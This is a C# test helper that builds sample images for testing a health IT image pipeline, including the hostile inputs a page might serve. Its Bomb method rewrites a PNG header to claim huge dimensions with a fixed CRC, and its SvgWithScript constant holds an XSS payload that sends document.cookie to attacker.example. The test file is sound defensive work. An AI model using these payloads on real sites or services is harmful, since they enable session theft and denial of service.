using System.Buffers.Binary;
using System.IO.Hashing;
using SkiaSharp;

namespace HealthItFunctions.Infrastructure.Tests.Images;

/// <summary>Pictures drawn for the tests: real encodings of our own, and the broken ones a hostile page may serve.</summary>
internal static class TestPictures
{
    public static byte[] Encode(int width, int height, SKEncodedImageFormat format, SKColor? color = null)
    {
        using var bitmap = new SKBitmap(width, height);
        using (var canvas = new SKCanvas(bitmap))
        {
            canvas.Clear(color ?? new SKColor(0x25, 0x63, 0xeb));
            using var paint = new SKPaint { Color = SKColors.White };
            canvas.DrawRect(width / 4f, height / 4f, width / 2f, height / 2f, paint);
        }

        using var data = bitmap.Encode(format, 90);
        return data.ToArray();
    }

    /// <summary>A valid 64 × 64 PNG whose header claims <paramref name="side"/> × <paramref name="side"/>, CRC fixed: a decompression bomb's front.</summary>
    public static byte[] Bomb(int side)
    {
        var png = Encode(64, 64, SKEncodedImageFormat.Png);
        // Signature (8), IHDR length (4), "IHDR" (4), then width and height; the CRC covers type and data (17 bytes).
        BinaryPrimitives.WriteInt32BigEndian(png.AsSpan(16), side);
        BinaryPrimitives.WriteInt32BigEndian(png.AsSpan(20), side);
        BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(29), Crc32.HashToUInt32(png.AsSpan(12, 17)));
        return png;
    }

    /// <summary>A JPEG cut off after its headers: the start of a real picture, then nothing.</summary>
    public static byte[] Truncated() => Encode(400, 300, SKEncodedImageFormat.Jpeg)[..600];

    public static byte[] Garbage() => [.. Enumerable.Range(0, 4096).Select(i => (byte)(i * 31 % 251))];

    public const string SvgWithScript = """
        <?xml version="1.0"?>
        <svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="alert(1)">
          <script>fetch('https://attacker.example/?c=' + document.cookie)</script>
          <rect width="200" height="100" fill="red"/>
        </svg>
        """;
}
